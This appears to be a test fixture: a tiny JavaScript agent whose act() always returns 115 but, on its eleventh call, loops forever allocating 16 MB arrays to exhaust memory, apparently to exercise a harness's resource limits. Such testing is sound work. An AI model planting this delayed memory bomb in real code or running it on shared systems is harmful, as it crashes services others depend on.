const SEARCH = 115;
const kept = [];
let answers = 0;

export function createAgent() {
  return {
    act() {
      answers += 1;
      if (answers === 11) for (;;) kept.push(new Uint8Array(16 << 20).fill(1));
      return SEARCH;
    },
  };
}
